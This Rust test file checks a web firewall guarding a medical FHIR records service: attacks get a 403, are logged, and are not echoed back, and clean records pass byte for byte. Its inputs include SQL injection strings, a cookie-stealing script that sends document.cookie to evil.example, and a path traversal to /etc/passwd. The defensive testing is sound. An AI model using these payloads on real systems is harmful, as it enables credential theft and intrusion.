//! Sentences about what comes before the door: attacks go no further, and everything else arrives as it was sent.

use std::sync::{Arc, LazyLock, Mutex};

use axum::Router;
use axum::body::{Body, Bytes};
use axum::http::{Method, Request, header};
use axum::response::{IntoResponse, Response};
use futures_util::FutureExt;
use futures_util::future::BoxFuture;
use http_body_util::BodyExt;
use model::{Fault, RequestId, TenantId};
use shield::{Inspector, Settings, Verdict};
use tower::ServiceExt;
use web::{Attempt, Guard, Needs, Options, RouteDecl, Sent, Site, Spoken};

use super::house::{Counting, Heard, Porter};

static RULES: LazyLock<Inspector> = LazyLock::new(|| Inspector::built_in(Settings::default()).unwrap());

/// What the guard wrote down of one attempt.
#[derive(Debug, PartialEq, Eq)]
struct Line {
    route: Option<&'static str>,
    known: bool,
    blocked: bool,
    body: usize,
}

#[derive(Default)]
struct Sentry {
    lines: Mutex<Vec<Line>>,
    looks: Mutex<Vec<Option<TenantId>>>,
    forgiving: bool,
    broken: bool,
}

impl Guard for Sentry {
    fn inspect(&self, sent: &Sent, tenant: Option<TenantId>) -> Verdict {
        self.looks.lock().unwrap().push(tenant);
        let mut verdict = sent.with(|request| RULES.inspect(request));
        if tenant.is_some() {
            verdict.decision = shield::Decision::Pass;
        }
        verdict
    }

    fn has_own_exclusions(&self, _: TenantId) -> bool {
        self.forgiving
    }

    fn attempted<'a>(&'a self, attempt: Attempt) -> BoxFuture<'a, Result<(), Fault>> {
        let blocked = attempt.verdict.blocks();
        let body = attempt.sent.body.len();
        let line = Line { route: attempt.route, known: attempt.ctx.is_some(), blocked, body };
        self.lines.lock().unwrap().push(line);
        let broken = self.broken;
        async move { if broken { Err(Fault::new("writing an attempt down", "disk on fire")) } else { Ok(()) } }.boxed()
    }
}

fn outcome(spoken: &Spoken, _: RequestId) -> Response {
    let body = serde_json::json!({ "resourceType": "OperationOutcome", "words": spoken.words });
    (spoken.status, [(header::CONTENT_TYPE, "application/fhir+json")], body.to_string()).into_response()
}

async fn echo(body: Bytes) -> Bytes {
    body
}

fn site() -> Site {
    let put = RouteDecl::new(Method::PUT, "/fhir/Patient", Needs::Permission("patient.read"), "Takes a patient.");
    let pages = Site::pages().post("/echo", Needs::Public, "Says what it was told.", echo).get(
        "/mine/{id}",
        Needs::Session,
        "Shows what is mine.",
        echo,
    );
    pages.join(Site::api("/fhir", outcome).add(put.body_bytes_max(4 * 1024 * 1024), echo))
}

struct House {
    router: Router,
    sentry: Arc<Sentry>,
}

fn house_with(sentry: Sentry) -> House {
    let sentry = Arc::new(sentry);
    let mut options = Options::new(Arc::new(Counting::default()), [9; 32]);
    options.guard = sentry.clone();
    House { router: site().into_router(Arc::new(Porter::default()), options).unwrap(), sentry }
}

impl House {
    async fn ask(&self, method: &str, path: &str, headers: &[(&str, &str)], body: impl Into<Body>) -> Heard {
        let mut request = Request::builder().method(method).uri(path).header("host", "candor.test");
        for (name, value) in headers {
            request = request.header(*name, *value);
        }
        let response = self.router.clone().oneshot(request.body(body.into()).unwrap()).await.unwrap();
        let (status, headers) = (response.status().as_u16(), response.headers().clone());
        let body = response.into_body().collect().await.unwrap().to_bytes();
        Heard { status, headers, body: String::from_utf8_lossy(&body).into_owned() }
    }

    fn lines(&self) -> Vec<Line> {
        std::mem::take(&mut self.sentry.lines.lock().unwrap())
    }
}

const DENTIST: (&str, &str) = ("authorization", "Bearer dentist");
const FHIR: (&str, &str) = ("content-type", "application/fhir+json");

/// A record with a note, of about so many bytes.
fn record(note: &str, bytes: usize) -> String {
    let filler = "Reviewed; pain < 3 of 10, or none. ".repeat(bytes / 35);
    serde_json::json!({ "resourceType": "Patient", "filler": filler, "note": note }).to_string()
}

#[tokio::test]
async fn an_attack_goes_no_further_and_is_not_repeated_to_its_sender() {
    let house = house_with(Sentry::default());
    let heard = house.ask("GET", "/mine/7?q=1%27%20union%20select%20password%20from%20users--", &[], "").await;
    assert_eq!(heard.status, 403);
    assert!(heard.body.contains("nothing was done") && !heard.body.contains("union") && !heard.body.contains("users"));
    assert!(heard.body.contains(heard.header("x-request-id")) && heard.header("x-request-id").len() > 8);
    assert!(heard.header("content-security-policy").contains("default-src"));
    assert_eq!(house.lines(), [Line { route: Some("/mine/{id}"), known: false, blocked: true, body: 0 }]);
}

#[tokio::test]
async fn an_interface_says_so_in_its_own_words_and_who_asked_is_written_down() {
    let house = house_with(Sentry::default());
    let attack = record("<script>fetch('//evil.example/'+document.cookie)</script>", 100);
    let heard = house.ask("PUT", "/fhir/Patient", &[DENTIST, FHIR], attack.clone()).await;
    assert_eq!(heard.status, 403);
    assert!(heard.body.contains("OperationOutcome") && !heard.body.contains("evil.example"));
    let line = Line { route: Some("/fhir/Patient"), known: true, blocked: true, body: attack.len() };
    assert_eq!(house.lines(), [line]);
}

#[tokio::test]
async fn what_is_no_attack_arrives_byte_for_byte() {
    let house = house_with(Sentry::default());
    for bytes in [0, 900, 40_000, 300_000] {
        let record = record("Select an inhibitor if BP > 140; drop dose when K+ rises. \u{2265} 1 = no relief", bytes);
        let heard = house.ask("PUT", "/fhir/Patient", &[DENTIST, FHIR], record.clone()).await;
        assert_eq!((heard.status, heard.body == record), (200, true), "{bytes} bytes");
    }
    assert!(house.lines().is_empty());
}

#[tokio::test]
async fn a_long_body_is_read_only_for_whoever_is_let_in() {
    let house = house_with(Sentry::default());
    let attack = record("1' union select password from users--", 400_000);
    let heard = house.ask("PUT", "/fhir/Patient", &[FHIR], attack.clone()).await;
    assert_eq!(heard.status, 401, "a stranger's long body is not inspected, because nothing reads it");
    assert!(house.lines().is_empty());
    let heard = house.ask("PUT", "/fhir/Patient", &[DENTIST, FHIR], attack.clone()).await;
    assert_eq!(heard.status, 403);
    let line = Line { route: Some("/fhir/Patient"), known: true, blocked: true, body: attack.len() };
    assert_eq!(house.lines(), [line]);
}

#[tokio::test]
async fn a_body_of_unsaid_length_is_inspected_too() {
    let house = house_with(Sentry::default());
    let attack = record("1' union select password from users--", 400_000);
    let pieces: Vec<Result<Bytes, std::io::Error>> =
        attack.as_bytes().chunks(9_000).map(|piece| Ok(Bytes::copy_from_slice(piece))).collect();
    let body = Body::from_stream(futures_util::stream::iter(pieces));
    assert_eq!(house.ask("PUT", "/fhir/Patient", &[DENTIST, FHIR], body).await.status, 403);
    assert_eq!(house.lines().len(), 1);
}

#[tokio::test]
async fn a_picture_flows_through_unread() {
    let house = house_with(Sentry::default());
    let body = "<script>alert(1)</script>' or 1=1--";
    let heard = house.ask("PUT", "/fhir/Patient", &[DENTIST, ("content-type", "image/png")], body).await;
    assert_eq!((heard.status, heard.body.as_str()), (200, body));
    let heard = house.ask("PUT", "/fhir/Patient", &[DENTIST], "<script>document.location='//evil.example'</script>");
    assert_eq!(heard.await.status, 403, "a body of no type is one value");
}

#[tokio::test]
async fn a_body_beyond_its_route_is_too_large_before_anybody_keeps_it() {
    let house = house_with(Sentry::default());
    let heard = house.ask("POST", "/echo", &[("content-type", "text/plain")], vec![b'a'; 300_000]).await;
    assert_eq!(heard.status, 413);
}

#[tokio::test]
async fn an_attack_on_an_address_that_does_not_exist_is_written_down_too() {
    let house = house_with(Sentry::default());
    assert_eq!(house.ask("GET", "/cgi-bin/..%2f..%2f..%2fetc/passwd", &[], "").await.status, 403);
    assert_eq!(house.lines(), [Line { route: None, known: false, blocked: true, body: 0 }]);
}

#[tokio::test]
async fn an_organisation_is_judged_by_its_own_exclusions_once_it_is_known() {
    let house = house_with(Sentry { forgiving: true, ..Sentry::default() });
    let path = "/mine/7?q=1%27%20union%20select%20password%20from%20users--";
    assert_eq!(house.ask("GET", path, &[("cookie", "__Host-candor=dentist")], "").await.status, 200);
    assert_eq!(house.ask("GET", path, &[], "").await.status, 403, "a stranger has none");
    assert_eq!(house.lines().len(), 1);
    assert_eq!(*house.sentry.looks.lock().unwrap(), [None, Some(TenantId::from_bytes([1; 16])), None]);
}

#[tokio::test]
async fn an_attempt_that_cannot_be_written_down_is_a_fault() {
    let house = house_with(Sentry { broken: true, ..Sentry::default() });
    assert_eq!(house.ask("GET", "/mine/7?q=1%27%20union%20select%20a%20from%20b--", &[], "").await.status, 500);
}
